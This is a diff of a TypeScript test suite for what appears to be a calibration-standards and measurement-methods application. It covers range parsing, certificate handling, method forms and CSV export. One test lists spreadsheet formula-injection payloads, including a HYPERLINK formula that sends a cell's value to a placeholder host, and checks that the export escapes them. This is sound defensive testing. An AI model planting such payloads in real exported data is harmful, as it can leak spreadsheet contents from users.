@@ -1,27 +1,36 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import fc from "fast-check";
-import { askOf, definitionOf, formOf, gridOf, refined, sumsOf, wrongOf, zonesOf } from "../src/screens/methods/methods-data";
-import { placeOf } from "../src/screens/office/office-data";
-import { csvOf, outcomesOf, piecesOf, sorted, type Use, usedWith, withPoints } from "../src/screens/standards/reverse-data";
 import {
-  certificatesOf,
+  askOf,
+  definitionOf,
+  formOf,
+  gridOf,
+  refined,
+  sumsOf,
+  wrongOf,
+  zonesOf,
+} from "../src/screens/methods/methods-data";
+import { placeOf } from "../src/records/office";
+import { csvOf, notCalculated, outcomesOf, piecesOf, sorted, type Use } from "../src/screens/standards/reverse-data";
+import {
   formOf as rangeForm,
-  itemOf,
-  pointsFrom,
-  reaches,
   readPoints,
   readRange,
-  sameRange,
+  certifyOf,
   withCertificate,
 } from "../src/screens/standards/standards-data";
 import type { Json, RecordState } from "../src/wire/records";
+import { calculate } from "./module";
 
 function standard(fields: { [name: string]: Json }): RecordState {
   const state: RecordState = { id: "s", kind: "standard", site: "", parent: "", fields: {} };
   let n = 0;
   for (const [name, value] of Object.entries(fields))
-    state.fields[name] = { heads: [{ change: `c${++n}`, value, author: "u", device: "d", wall: `2026-01-0${n}`, stamp: String(n) }], replaced: [] };
+    state.fields[name] = {
+      heads: [{ change: `c${++n}`, value, author: "u", device: "d", wall: `2026-01-0${n}`, stamp: String(n) }],
+      replaced: [],
+    };
   return state;
 }
 
@@ -31,7 +40,9 @@ const point = (applied: string, error = "0", expanded = "0.004") => ({ applied, 
 test("a range is read with a comma or a point, what does not fit is named", () => {
   const typed = rangeForm({ ...range, points: [point("0")] });
   assert.deepEqual(readRange(typed), { range: { ...range, points: [point("0")] } });
-  assert.deepEqual(readRange({ ...typed, low: "\u22121,0" }), { range: { ...range, low: "-1.0", points: [point("0")] } });
+  assert.deepEqual(readRange({ ...typed, low: "\u22121,0" }), {
+    range: { ...range, low: "-1.0", points: [point("0")] },
+  });
   for (const [wrong, field] of [
     [{ low: "minus one" }, "low"],
     [{ high: "" }, "high"],
@@ -46,7 +57,9 @@ test("a range is read with a comma or a point, what does not fit is named", () =
 
 test("points of a certificate must be whole and rise; empty lines fall away", () => {
   const blank = { applied: "", error: "", expanded: "", k: "2" };
-  assert.deepEqual(readPoints([point("0"), blank, { ...point("20", "0,002"), k: "" }]), { points: [point("0"), point("20", "0.002")] });
+  assert.deepEqual(readPoints([point("0"), blank, { ...point("20", "0,002"), k: "" }]), {
+    points: [point("0"), point("20", "0.002")],
+  });
   for (const [forms, field] of [
     [[blank], "applied 0"],
     [[point("0"), point("0")], "applied 1"],
@@ -65,7 +78,9 @@ test("a newer certificate comes in force, an older one is only kept", () => {
     calibrated: "2026-02-01",
     "certificate.a": { number: "A", calibrated: "2026-02-01", due: "2027-02-01", range, points: [point("0")] },
   });
-  const newer = withCertificate(s, "b", { number: "B", calibrated: "2026-03-01", due: "2027-03-01", range, points: [point("1")] });
+  const kept = (id: string, certificate: { [name: string]: Json }) =>
+    withCertificate(id, certificate, calculate("certify", certifyOf(s, certificate)));
+  const newer = kept("b", { number: "B", calibrated: "2026-03-01", due: "2027-03-01", range, points: [point("1")] });
   assert.deepEqual(
     newer.map((x) => x.field),
     ["certificate.b", "ranges", "certificate_no", "calibrated", "due"],
@@ -74,41 +89,11 @@ test("a newer certificate comes in force, an older one is only kept", () => {
     { ...range, low: "0", high: "2" },
     { ...range, points: [point("1")] },
   ]);
-  const older = withCertificate(s, "c", { number: "C", calibrated: "2025-03-01", due: "2026-03-01", range, points: [point("1")] });
+  const older = kept("c", { number: "C", calibrated: "2025-03-01", due: "2026-03-01", range, points: [point("1")] });
   assert.deepEqual(
     older.map((x) => x.field),
     ["certificate.c"],
   );
-  assert.deepEqual(
-    certificatesOf(standard({ "certificate.x": { number: "X", calibrated: "2024-01-01" }, "certificate.y": { number: "Y", calibrated: "2025-01-01" } })).map(
-      (c) => c.number,
-    ),
-    ["Y", "X"],
-  );
-});
-
-test("a standard as an instrument is judged by what it states of itself", () => {
-  const item = itemOf(standard({ name: "Kit", serial: "K-1" }), { ...range, stability_ppm: "10", of_reading_percent: "0.005", resolution: "0.001" });
-  assert.deepEqual(item["limit"], { rule: "terms", of_reading_percent: "0.006", of_span_percent: "0.05" });
-  assert.deepEqual([item["tag"], item["resolution"], item["instrument"]], ["K-1", "0.001", "s"]);
-});
-
-test("points are taken over with the digits that their uncertainty bears", () => {
-  assert.deepEqual(
-    pointsFrom({
-      points: [
-        { applied: 5.14474291577, error: -0.0012345, expanded: 0.0031, k: 2 },
-        { applied: 10, error: 0.00001, expanded: 0.0031, k: 2.8689 },
-        { applied: 15, error: 0.1 },
-      ],
-    }),
-    [
-      { applied: "5.14474", error: "-0.0012", expanded: "0.0031", k: "2" },
-      { applied: "10.00000", error: "0.0000", expanded: "0.0031", k: "2.869" },
-    ],
-  );
-  assert.equal(reaches([point("-1"), point("20")], range), true);
-  assert.equal(reaches([point("0"), point("20")], range), false);
 });
 
 const use = (run: string, known: Json, more: Partial<Use> = {}): Use => ({
@@ -121,24 +106,29 @@ const use = (run: string, known: Json, more: Partial<Use> = {}): Use => ({
   status: "approved",
   verdict: "pass",
   standard: { id: "s", range: known, snapshot: { range: known, calibrated: "2025-06-01" } },
+  years_since: "0.588",
+  as: "standard" as const,
   sheet: { run },
+  unread: "",
   ...more,
 });
 
-test("runs are asked together when they knew the same of the standard, in pieces", () => {
+test("runs are asked together when they knew the same of the standard, in pieces", async () => {
   const other = { ...range, of_span_percent: "0.1" };
-  const uses = [use("1", range), use("2", other), use("3", range), use("4", range)];
-  const pieces = piecesOf(uses, undefined, [point("0")], 2);
+  const uses = [use("1", range), use("2", other), use("3", range), use("", range, { unread: "no", standard: null })];
+  const ask = (name: "uses", doc: unknown) => Promise.resolve(calculate(name, doc));
+  const { ofRange, pieces } = await piecesOf(uses, range, undefined, [point("0")], 2, ask as never);
+  assert.deepEqual(ofRange, uses, "what is stated of it may differ; one that cannot be read may be of any");
   assert.deepEqual(
-    pieces.map((p) => p.affected.map((a) => a.id)),
-    [["1", "3"], ["4"], ["2"]],
+    pieces.map((p) => p.affected.map((a) => [a.id, a.sheet === uses[Number(a.id) - 1]?.sheet])),
+    [
+      [
+        ["1", true],
+        ["3", true],
+      ],
+      [["2", true]],
+    ],
   );
-  assert.deepEqual(pieces[0]?.before, { ranges: [{ low: "-1", high: "20", of_span_percent: "0.05", k: "2" }] });
-  assert.deepEqual(pieces[0]?.after, { ranges: [{ low: "-1", high: "20", of_span_percent: "0.05", k: "2" }], certificate: { points: [point("0")] } });
-  assert.ok(usedWith(uses[1] as Use, range), "what is stated of it may differ");
-  assert.ok(!usedWith(use("5", { ...range, high: "2" }), range));
-  assert.ok(sameRange(range, { ...range, low: "-1.0" }));
-  assert.deepEqual(withPoints({ ...range, points: [point("1")] }, []), range);
 });
 
 test("what changes stands first, and a fault is told", () => {
@@ -147,8 +137,20 @@ test("what changes stands first, and a fault is told", () => {
     outcomesOf(
       {
         sheets: [
-          { id: "1", before: { verdict: "pass", worst_fraction: 0.5 }, after: { verdict: "pass", worst_fraction: 0.6 }, changed: false, readings: [] },
-          { id: "2", before: { verdict: "pass" }, after: { verdict: "fail" }, changed: true, readings: [{ step: "a" }] },
+          {
+            id: "1",
+            before: { verdict: "pass", worst_fraction: 0.5 },
+            after: { verdict: "pass", worst_fraction: 0.6 },
+            changed: false,
+            readings: [],
+          },
+          {
+            id: "2",
+            before: { verdict: "pass" },
+            after: { verdict: "fail" },
+            changed: true,
+            readings: [{ step: "a" }],
+          },
           { id: "3", error: { code: "range", field: "affected[2].sheet", message: "no" } },
           { id: "unknown", before: {}, after: {}, changed: true },
         ],
@@ -167,10 +169,35 @@ test("what changes stands first, and a fault is told", () => {
   assert.match(csvOf(all), /^tag,.*\r\n'=1\+1,.*,pass,fail,/);
 });
 
+test("what cannot be calculated is named without the program's own fields", () => {
+  const fault = outcomesOf(
+    { sheets: [{ id: "1", error: { field: "affected[0].sheet.captures", message: "is missing" } }] },
+    new Map([["1", use("1", range)]]),
+  );
+  assert.equal(fault[0]?.fault, "is missing", "no names of the program's own fields");
+});
+
+test("no text of a table is a formula to a spreadsheet", () => {
+  const bad = ['=HYPERLINK("http://e/"&A1,"PI-1")', "@SUM(1,2)", "\t=1+1", "\r=1+1", "-1+1", "+1"];
+  const all = bad.map((tag, i) => notCalculated(use(String(i), range, { tag }), ""));
+  const lines = csvOf(all).split("\r\n").slice(1, -1);
+  assert.equal(lines.length, bad.length);
+  for (const line of lines) assert.match(line, /^"?'/);
+  const odd = notCalculated(use("9", range, { tag: "PI-1" }), 'no, "none"');
+  assert.ok(
+    csvOf([{ ...odd, before: { verdict: "pass", worst: -0.25 } }]).includes(",-0.25,"),
+    "a number stays a number",
+  );
+});
+
 const ready: { [name: string]: Json } = {
   kind: "gauge",
   points: { percents: ["0", "50", "100"] },
-  series: [{ direction: "up" }, { direction: "down" }, { direction: "up", remount: true, exercise: 1, percents: ["0", "50"] }],
+  series: [
+    { direction: "up" },
+    { direction: "down" },
+    { direction: "up", remount: true, exercise: 1, percents: ["0", "50"] },
+  ],
   exercise: 3,
   hold_s: 30,
   tap: false,
@@ -186,20 +213,26 @@ test("a method goes through the form unchanged, what the form does not know too"
 test("any count and waits go through the form", () => {
   const seconds = fc.integer({ min: 1, max: 3600 });
   fc.assert(
-    fc.property(fc.integer({ min: 2, max: 50 }), fc.integer({ min: 1, max: 10 }), fc.boolean(), seconds, (count, cycles, tap, hold_s) => {
-      const d: Json = {
-        kind: "gauge",
-        points: { count },
-        directions: "up-down",
-        cycles,
-        exercise: 0,
-        hold_s,
-        tap,
-        way: "pointer-set",
-        decision: { rule: "simple" },
-      };
-      assert.deepEqual(definitionOf(formOf(d)), { definition: d });
-    }),
+    fc.property(
+      fc.integer({ min: 2, max: 50 }),
+      fc.integer({ min: 1, max: 10 }),
+      fc.boolean(),
+      seconds,
+      (count, cycles, tap, hold_s) => {
+        const d: Json = {
+          kind: "gauge",
+          points: { count },
+          directions: "up-down",
+          cycles,
+          exercise: 0,
+          hold_s,
+          tap,
+          way: "pointer-set",
+          decision: { rule: "simple" },
+        };
+        assert.deepEqual(definitionOf(formOf(d)), { definition: d });
+      },
+    ),
   );
 });
 
@@ -217,21 +250,38 @@ test("a method that cannot be read is refused by its field", () => {
   }
   assert.equal(wrongOf("method.points.count", "x").field, "count");
   assert.equal(wrongOf("method.decision.needed_ratio", "x").field, "needed_ratio");
-  assert.deepEqual(wrongOf("method.series[2].percents", "no"), { field: "percents 2", error: "Only these per cents in M3: no" });
+  assert.deepEqual(wrongOf("method.series[2].percents", "no"), {
+    field: "percents 2",
+    error: "Only these per cents in M3: no",
+  });
 });
 
 test("the rule is asked over a grid and told in stretches", async () => {
   assert.deepEqual(gridOf(0.1, 0.05), [0, 0.05, 0.1]);
-  assert.deepEqual(askOf(formOf(ready), 4, 0.5), { value: "0.5", low: "-1", high: "1", u: "0.125", k: "2", rule: "guarded", guard_factor: "0.7" });
+  assert.deepEqual(askOf(formOf(ready), 4, 0.5), {
+    value: "0.5",
+    low: "-1",
+    high: "1",
+    u: "0.125",
+    k: "2",
+    rule: "guarded",
+    guard_factor: "0.7",
+  });
   const spot = (at: number, verdict: string) => ({ at, verdict, probability: 0 });
   assert.deepEqual(zonesOf([spot(0, "pass"), spot(0.5, "pass"), spot(1, "fail"), spot(1.5, "fail")]), [
     { verdict: "pass", from: 0, to: 0.75 },
     { verdict: "fail", from: 0.75, to: 1.5 },
   ]);
-  const exact = await refined([spot(0.98, "pass"), spot(1, "pass"), spot(1.02, "fail")], async (at) => spot(at, at <= 1 ? "pass" : "fail"));
+  const exact = await refined([spot(0.98, "pass"), spot(1, "pass"), spot(1.02, "fail")], async (at) =>
+    spot(at, at <= 1 ? "pass" : "fail"),
+  );
   const border = zonesOf(exact)[0]?.to ?? 0;
   assert.ok(Math.abs(border - 1) < 2e-5, `the border lies at ${border}`);
-  assert.deepEqual(sumsOf({ steps: [{ do: "read" }, { do: "vent" }, { do: "read" }], screens: 2, duration_s: 121 }), { readings: 2, screens: 2, minutes: 3 });
+  assert.deepEqual(sumsOf({ steps: [{ do: "read" }, { do: "vent" }, { do: "read" }], screens: 2, duration_s: 121 }), {
+    readings: 2,
+    screens: 2,
+    minutes: 3,
+  });
 });
 
 test("the office's paths to standards and methods", () => {
